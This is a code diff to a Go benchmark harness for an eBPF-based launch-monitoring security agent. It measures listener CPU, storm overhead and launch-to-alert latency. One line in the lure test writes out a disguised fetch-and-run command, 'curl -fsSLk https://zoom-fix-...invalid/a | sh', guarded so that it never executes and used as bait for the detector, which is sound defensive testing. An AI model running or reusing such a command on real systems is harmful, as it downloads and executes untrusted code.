@@ -33,7 +33,6 @@ type heard struct {
 	Events int // all launches that were told, those of others too
 	Lost   int
 	Unread int
-	CPU    float64 // seconds
 }
 
 // hearLaunches listens to one source until it is told to stop. It is what the
@@ -60,20 +59,11 @@ func hearLaunches(source, out string) error {
 		return err
 	}
 	c := l.Counters()
-	data, err := json.Marshal(heard{Args: len(words), Events: int(c.ExecEvents), Lost: int(c.ExecLost), Unread: int(c.ExecUnread), CPU: ownCPU()})
+	data, err := json.Marshal(heard{Args: len(words), Events: int(c.ExecEvents), Lost: int(c.ExecLost), Unread: int(c.ExecUnread)})
 	if err != nil {
 		return err
 	}
 	return os.WriteFile(out, data, 0o644)
-}
-
-// ownCPU is the CPU time of this process, in seconds.
-func ownCPU() float64 {
-	var u syscall.Rusage
-	if syscall.Getrusage(syscall.RUSAGE_SELF, &u) != nil {
-		return 0
-	}
-	return float64(u.Utime.Nano()+u.Stime.Nano()) / 1e9
 }
 
 // ear starts a listener on one source.
@@ -113,16 +103,13 @@ func storm(tag string, n int, name string, args ...string) (series, error) {
 	return s, nil
 }
 
-// measureLaunches holds the sources of launches to what they promise. It needs
-// root, as they do.
-func measureLaunches(e *env) ([]result, error) {
+// measureStorms holds the sources of launches, and what hearing them costs, to
+// what they promise. It needs root, as they do.
+func measureStorms(e *env) ([]result, error) {
 	if os.Geteuid() != 0 {
-		return []result{{name: "sources of launches", figure: "not measured: they need root"}}, nil
+		return noSources, nil
 	}
-	n := 10000
-	if e.short {
-		n = 1000
-	}
+	n := e.launches()
 	rows, err := e.stormRows(n)
 	if err != nil {
 		return nil, err
@@ -135,57 +122,116 @@ func measureLaunches(e *env) ([]result, error) {
 	if err != nil {
 		return nil, err
 	}
-	verdicts, err := e.launchToAlert(n / 50)
-	return slices.Concat(rows, short, agent, verdicts), err
+	slower, err := e.agentStorm(n / 2)
+	return slices.Concat(rows, short, agent, slower), err
 }
+
+// measureVerdicts holds the agent to how soon it judges a launch.
+func measureVerdicts(e *env) ([]result, error) {
+	if os.Geteuid() != 0 {
+		return noSources, nil
+	}
+	return e.launchToAlert(e.launches() / 50)
+}
+
+var noSources = []result{{name: "sources of launches", figure: "not measured: they need root"}}
+
+func (e *env) launches() int {
+	if e.short {
+		return 1000
+	}
+	return 10000
+}
+
+// stormRounds is how many short storms are sent in place of each long one: on a
+// machine that others use too, only what is close together in time compares.
+const stormRounds = 4
 
 // stormRows sends storms with and without a listener, in turns.
 func (e *env) stormRows(n int) ([]result, error) {
-	per := n / e.rounds
+	rounds := stormRounds * e.rounds
+	per := n / rounds
 	var ratio, cpu series
 	var all heard
-	idle, err := e.idleEar()
-	if err != nil {
-		return nil, err
-	}
-	for round := range e.rounds {
-		without, err := storm("without", per, "true")
-		if err != nil {
-			return nil, err
-		}
-		w, out, err := e.ear("ebpf")
-		if err != nil {
-			return nil, err
-		}
-		with, err := storm(fmt.Sprint(round), per, "true")
-		if err != nil {
-			w.stop()
-			return nil, err
-		}
-		h, err := w.hear(out)
+	for round := range rounds {
+		var h heard
+		r, err := inTurns(round, per, func(storms func() error) error {
+			w, out, err := e.ear("ebpf")
+			if err != nil {
+				return err
+			}
+			w.rest()
+			before := familyCPU(w.cmd.Process.Pid)
+			if err := storms(); err != nil {
+				w.stop()
+				return err
+			}
+			w.rest()
+			cpu = append(cpu, 1e3*(familyCPU(w.cmd.Process.Pid)-before)/float64(per))
+			h, err = w.hear(out)
+			return err
+		})
 		if err != nil {
 			return nil, err
 		}
 		all.Args, all.Lost, all.Unread = all.Args+h.Args, all.Lost+h.Lost, all.Unread+h.Unread
-		ratio, cpu = append(ratio, with.median()/without.median()), append(cpu, 1e3*max(0, h.CPU-idle)/float64(h.Events))
+		ratio = append(ratio, r)
 	}
-	total := per * e.rounds
+	total := per * rounds
 	return []result{
 		atLeast(fmt.Sprintf("launches of %d that ended at once, seen with their arguments (ebpf)", total), all.Args, total, 1),
 		{name: "launches lost or unread in these", figure: fmt.Sprint(all.Lost + all.Unread), bar: "0", passed: all.Lost+all.Unread == 0},
-		loaded(atMost("CPU of hearing one launch (ebpf)", cpu, 0.1, " ms"), cpu),
-		loaded(atMost("one launch of a storm with the listener / without", ratio, 1.05, "×"), ratio),
+		loaded(told("CPU of hearing one launch (ebpf)", cpu, " ms"), cpu),
+		loaded(told("one launch of a storm with the listener alone / without", ratio, "×"), ratio),
 	}, nil
 }
 
-// idleEar is the CPU of a listener that starts and stops.
-func (e *env) idleEar() (float64, error) {
-	w, out, err := e.ear("ebpf")
-	if err != nil {
-		return 0, err
+// inTurns sends one storm with what with starts and one without, now this one
+// first and now that, and gives the ratio of what one launch took.
+func inTurns(round, per int, with func(storms func() error) error) (float64, error) {
+	var took, bare series
+	without := func() (err error) {
+		bare, err = storm(fmt.Sprint("without-", round), per, "true")
+		return err
 	}
-	h, err := w.hear(out)
-	return h.CPU, err
+	within := func() error {
+		return with(func() (err error) {
+			took, err = storm(fmt.Sprint("with-", round), per, "true")
+			return err
+		})
+	}
+	order := []func() error{without, within}
+	if round%2 == 1 {
+		order[0], order[1] = within, without
+	}
+	for _, part := range order {
+		if err := part(); err != nil {
+			return 0, err
+		}
+	}
+	return took.median() / bare.median(), nil
+}
+
+// agentStorm is the same as the listener's, with the whole agent.
+func (e *env) agentStorm(n int) ([]result, error) {
+	var ratio series
+	rounds := 2 * e.rounds
+	for round := range rounds {
+		r, err := inTurns(round, n/rounds, func(storms func() error) error {
+			agent, err := e.watchAgent("storm", "")
+			if err != nil {
+				return err
+			}
+			defer agent.stop()
+			agent.rest()
+			return storms()
+		})
+		if err != nil {
+			return nil, err
+		}
+		ratio = append(ratio, r)
+	}
+	return []result{loaded(atMost("one launch of a storm with the whole agent / without", ratio, 1.05, "×"), ratio)}, nil
 }
 
 // shortLived launches programs that live a few milliseconds, for the source
@@ -210,32 +256,90 @@ func (e *env) shortLived(n int) ([]result, error) {
 }
 
 // launchToAlert launches lines that are alerts, but whose fetching part never
-// runs, and gives the time from each launch to its alert on the disk: of many in
-// an agent that has run for a few seconds, and of the first in several that have
-// just said that they watch.
+// runs, and gives the time from each launch to its verdict and to its alert on the
+// disk, as the agent tells it, and to its line in the log, as others see it: of many in an agent that has run for a few
+// seconds, and of the first in several that have just said that they watch.
 func (e *env) launchToAlert(n int) ([]result, error) {
-	warm, forked, missing, err := e.lureLaunches("warm", 5*time.Second, n)
+	warm, err := e.lureLaunches("warm", 5*time.Second, n)
 	if err != nil {
 		return nil, err
 	}
-	if len(warm) == 0 {
-		return nil, fmt.Errorf("%d of %d lure launches made no alert", missing, n)
+	if len(warm.took) == 0 {
+		return nil, fmt.Errorf("%d of %d lure launches made no alert", warm.missing, n)
 	}
-	var cold series
+	var cold, coldVerdict series
+	missing := warm.missing
 	for i := range e.rounds {
-		first, _, gone, err := e.lureLaunches(fmt.Sprint("cold", i), 0, 1)
+		first, err := e.lureLaunches(fmt.Sprint("cold", i), 0, 1)
 		if err != nil {
 			return nil, err
 		}
-		cold, missing = append(cold, first...), missing+gone
+		cold, missing = append(cold, first.took...), missing+first.missing
+		coldVerdict = append(coldVerdict, first.told.Verdict.P50)
 	}
+	late := warm.told
 	return []result{
 		{name: fmt.Sprintf("lure launches of %d that made no alert", n+e.rounds), figure: fmt.Sprint(missing), bar: "0", passed: missing == 0},
-		loaded(atMost("launch to alert on the disk, warm, p50", series{warm.median()}, 2, " ms"), warm),
-		loaded(atMost("launch to alert on the disk, warm, p99", series{warm.quantile(0.99)}, 20, " ms"), warm),
-		loaded(told("the same from before its fork, p50", forked, " ms"), forked),
-		loaded(told("launch to alert on the disk, the first of a new agent", cold, " ms"), cold),
+		late.row("launch to verdict, p50", late.Verdict.P50, 2),
+		late.row("launch to verdict, p99", late.Verdict.P99, 20),
+		late.stored("launch to alert on the disk, synced, p50", late.Verdict.P50, late.Stored.P50),
+		late.stored("launch to alert on the disk, synced, p99", late.Verdict.P99, late.Stored.P99),
+		loaded(told("launch to its line in the log, not synced yet, p50", series{warm.took.median()}, " ms"), warm.took),
+		loaded(told("launch to its line in the log, not synced yet, p99", series{warm.took.quantile(0.99)}, " ms"), warm.took),
+		loaded(told("the same from before its fork, p50", warm.forked, " ms"), warm.forked),
+		loaded(told("launch to verdict, the first of a new agent", coldVerdict, " ms"), coldVerdict),
+		loaded(told("launch to its line in the log, the first of a new agent", cold, " ms"), cold),
 	}, nil
+}
+
+// lateness is what the agent tells in its status of the launches that made an
+// alert, in milliseconds.
+type lateness struct {
+	Count           int
+	Verdict, Stored struct{ P50, P99 float64 }
+}
+
+// readLateness reads it. The status is written soon after the last alert.
+func readLateness(state string) (l lateness, err error) {
+	time.Sleep(time.Second)
+	var status struct {
+		Late struct {
+			Count   int                        `json:"count"`
+			Verdict struct{ P50, P99 float64 } `json:"verdict_ms"`
+			Stored  struct{ P50, P99 float64 } `json:"stored_ms"`
+		} `json:"launch_alerts"`
+	}
+	data, err := os.ReadFile(filepath.Join(state, "status.json"))
+	if err != nil {
+		return l, err
+	}
+	err = json.Unmarshal(data, &status)
+	return lateness(status.Late), err
+}
+
+// row is one figure of it; a bar of 0 is none.
+func (l lateness) row(name string, ms, bar float64) result {
+	r := result{name: name, figure: fmt.Sprintf("%.2f ms", ms), spread: fmt.Sprintf("n=%d", l.Count)}
+	if bar > 0 {
+		r.bar, r.passed = fmt.Sprintf("≤ %g ms", bar), ms <= bar
+	}
+	return r
+}
+
+// stored is a figure of the disk, and how much of it lies behind the verdict.
+func (l lateness) stored(name string, verdict, disk float64) result {
+	r := l.row(name, disk, 0)
+	r.spread += fmt.Sprintf(", %.0f %% of it the record and its fsync", 100*(1-verdict/max(disk, 1e-6)))
+	return r
+}
+
+// lures is what became of lure launches: the milliseconds from each launch, and
+// from before its fork, until its line was seen in the log, and what the agent
+// tells itself.
+type lures struct {
+	took, forked series
+	missing      int
+	told         lateness
 }
 
 // lureLaunches starts an agent, waits, and launches n lures. They come from a
@@ -243,15 +347,15 @@ func (e *env) launchToAlert(n int) ([]result, error) {
 // its jobs do, while one terminal's launches would be one chain and one alert.
 // The times are from when whoever launched it knew that it ran, which a busy
 // machine makes late, and from before the fork, which is always too early.
-func (e *env) lureLaunches(tag string, age time.Duration, n int) (took, forked series, missing int, err error) {
+func (e *env) lureLaunches(tag string, age time.Duration, n int) (l lures, err error) {
 	launcher, err := e.newLauncher() // first: its own launch is not measured
 	if err != nil {
-		return nil, nil, 0, err
+		return l, err
 	}
 	defer launcher.stop()
 	agent, err := e.watchAgent("launches", "")
 	if err != nil {
-		return nil, nil, 0, err
+		return l, err
 	}
 	defer agent.stop()
 	time.Sleep(age)
@@ -259,20 +363,21 @@ func (e *env) lureLaunches(tag string, age time.Duration, n int) (took, forked s
 		host := fmt.Sprintf("zoom-fix-%s-%d.invalid", tag, i)
 		before, launched, err := launcher.launch(fmt.Sprintf("true || curl -fsSLk https://%s/a | sh", host))
 		if err != nil {
-			return nil, nil, 0, err
+			return l, err
 		}
 		told, err := agent.log.wait(host, 2*time.Second)
 		if err != nil {
-			return nil, nil, 0, err
+			return l, err
 		}
 		if told.IsZero() {
-			missing++
+			l.missing++
 		} else {
-			took, forked = append(took, 1e3*told.Sub(launched).Seconds()), append(forked, 1e3*told.Sub(before).Seconds())
+			l.took, l.forked = append(l.took, 1e3*told.Sub(launched).Seconds()), append(l.forked, 1e3*told.Sub(before).Seconds())
 		}
 		time.Sleep(30 * time.Millisecond)
 	}
-	return took, forked, missing, nil
+	l.told, err = readLateness(filepath.Dir(agent.log.path))
+	return l, err
 }
 
 // launcher is a program of another name that launches what it is told to.
@@ -369,7 +474,7 @@ func (e *env) agentPerLaunch(n int) ([]result, error) {
 		if _, err := storm(fmt.Sprint("agent-", round), n/e.rounds, "true"); err != nil {
 			return nil, err
 		}
-		time.Sleep(500 * time.Millisecond) // what is heard late, and the status
+		time.Sleep(2500 * time.Millisecond) // what is heard late, and the status
 		cpu = append(cpu, 1e3*(familyCPU(agent.cmd.Process.Pid)-before)/float64(n/e.rounds))
 	}
 	return []result{loaded(atMost("CPU of the whole agent for one launch of a program that it knows", cpu, 0.1, " ms"), cpu)}, nil
